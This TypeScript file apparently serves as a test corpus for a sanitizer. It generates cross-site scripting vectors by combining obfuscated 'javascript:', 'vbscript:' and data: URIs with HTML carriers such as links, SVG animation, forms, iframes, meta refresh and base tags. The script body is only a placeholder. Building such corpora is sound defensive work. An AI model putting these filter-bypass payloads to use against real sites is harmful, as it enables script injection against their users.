/** Ways to write an address that runs a script. */
const addresses = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' \tjavascript:RUN',
  'java&#x09;script:RUN',
  'java&#10;script:RUN',
  '&#x01;javascript:RUN',
  'javascript&colon;RUN',
  '&#106;&#97;vascript:RUN',
  'javascript://home.example/%0aRUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AucmFuWzBdPTE8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>',
  'blob:javascript:RUN',
  'view-source:javascript:RUN',
];

/** Places that take an address. */
const carriers = [
  '<a href="ADDRESS">x</a>',
  '<a xlink:href="ADDRESS">x</a>',
  '<svg><a href="ADDRESS"><text y=9>x</text></a></svg>',
  '<svg><a xlink:href="ADDRESS"><text y=9>x</text></a></svg>',
  '<math href="ADDRESS"><mtext>x</mtext></math>',
  '<map name=m><area shape=default href="ADDRESS"></map><img usemap=#m src=x>',
  '<form action="ADDRESS"><button>x</button></form>',
  '<form><button formaction="ADDRESS">x</button></form>',
  '<iframe src="ADDRESS"></iframe>',
  '<object data="ADDRESS"></object>',
  '<embed src="ADDRESS">',
  '<img src="ADDRESS">',
  '<svg><animate attributeName=href values="ADDRESS"></animate></svg>',
  '<svg><a id=a><set attributeName=href to="ADDRESS"></set><text y=9>x</text></a></svg>',
  '<link rel=stylesheet href="ADDRESS">',
];
const takeovers = [
  '<base href="ADDRESS"><a href="#">x</a>',
  '<meta http-equiv=refresh content="0;url=ADDRESS">',
  '<frameset><frame src="ADDRESS"></frameset>',
];

const filled = (carrier: string): string[] => addresses.map((address) => carrier.replace('ADDRESS', address));

/** Address x place, where one does nothing to what else is in its document. */
export const protocolVectors: readonly string[] = carriers.flatMap(filled);

/** Address x place, where it takes the whole document with it. */
export const takeoverVectors: readonly string[] = takeovers.flatMap((carrier) =>
  addresses.slice(0, 9).map((address) => carrier.replace('ADDRESS', address)),
);
